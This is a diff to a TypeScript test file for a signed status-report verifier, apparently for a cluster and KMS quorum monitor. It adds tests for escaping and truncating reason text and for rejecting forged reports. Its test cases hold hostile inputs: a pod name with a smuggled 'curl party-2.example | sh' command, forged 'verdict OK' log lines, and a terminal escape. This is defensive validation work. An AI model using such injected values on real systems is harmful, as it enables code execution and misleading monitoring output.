@@ -56,8 +56,31 @@ test("a good half comes back as it was signed", async () => {
   expect(found.half).toEqual({ ...content, signingKey: { id: key.id, fingerprint: key.fingerprint } });
 });
 
+test("what a cluster says in many words and lines is signed in few, in one", async () => {
+  const content = halfContent(2);
+  const reason = `\u001b[31mfirst\u001b[0m\n  second\n${"x".repeat(600)}`;
+  content.sight.probe = { status: "unknown", reason };
+  const { half, problem } = await read(await signHalf(content, key));
+  expect(problem).toBeNull();
+  const signed = half?.sight.probe.status === "unknown" ? half.sight.probe.reason : "";
+  expect(signed).toMatch(/^\\u001b\[31mfirst\\u001b\[0m; second; x+…$/);
+  expect(signed).toHaveLength(500);
+});
+
 describe("a half that does not count, and why", () => {
   const signed = async (change: Parameters<typeof halfContent>[1] = {}) => await signHalf(halfContent(2, change), key);
+  const sight = (change: object) => ({ sight: { ...halfContent(2).sight, ...change } });
+  const pod = (change: object) =>
+    sight({
+      workload: {
+        status: "seen",
+        workload: {
+          statefulSet: "kms-core",
+          replicas: 1,
+          pod: { name: "kms-core-2", phase: "Running", ready: true, reason: null, ...change },
+        },
+      },
+    });
   const forged = (change: object) => {
     const half = { ...halfContent(2), signingKey: { id: key.id, fingerprint: key.fingerprint }, ...change };
     return key.forge({ ...key.header, typ: "quorate-half+jws" }, canonicalJson(half));
@@ -80,6 +103,13 @@ describe("a half that does not count, and why", () => {
     ["HALF_INVALID", true, () => forged({ network: "other" })],
     ["HALF_INVALID", true, () => forged({ signingKey: { id: key.id, fingerprint: stranger.fingerprint } })],
     ["HALF_INVALID", true, () => forged({ sight: halfContent(3).sight })],
+    ["HALF_INVALID", true, () => forged(sight({ notListening: "so no link to it can be down" }))],
+    ["HALF_INVALID", true, () => forged(sight({ caUnreadable: { nobody: "no such party" } }))],
+    ["HALF_INVALID", true, () => forged(pod({ name: "kms-core-2; curl party-2.example | sh" }))],
+    ["HALF_INVALID", true, () => forged(pod({ reason: "waits\nverdict OK\n12 of 12 links up" }))],
+    ["HALF_INVALID", true, () => forged(pod({ reason: "\u001b[2J" }))],
+    ["HALF_INVALID", true, () => forged(pod({ reason: "x".repeat(501) }))],
+    ["HALF_INVALID", true, () => forged({ ["x".repeat(10_000)]: 1 })],
     ["HALF_INVALID", true, () => forged({ issuedAt: "2026-11-20T18:55:01.000Z" })],
     ["HALF_FROM_FUTURE", true, async () => await signed({ issuedAt: new Date(seenAt + 7 * minuteMs).toISOString() })],
     ["HALF_OTHER_MANIFEST", true, async () => await signed({ manifestDigest: digestOf("f") })],
@@ -90,6 +120,7 @@ describe("a half that does not count, and why", () => {
     expect(found.half).toBeNull();
     expect(found.problem).toMatchObject({ code, refused });
     expect(found.problem?.next).toBeTruthy();
+    expect(found.problem?.found.length).toBeLessThan(2_000);
   });
 
   test("no bit of a half can be changed", async () => {
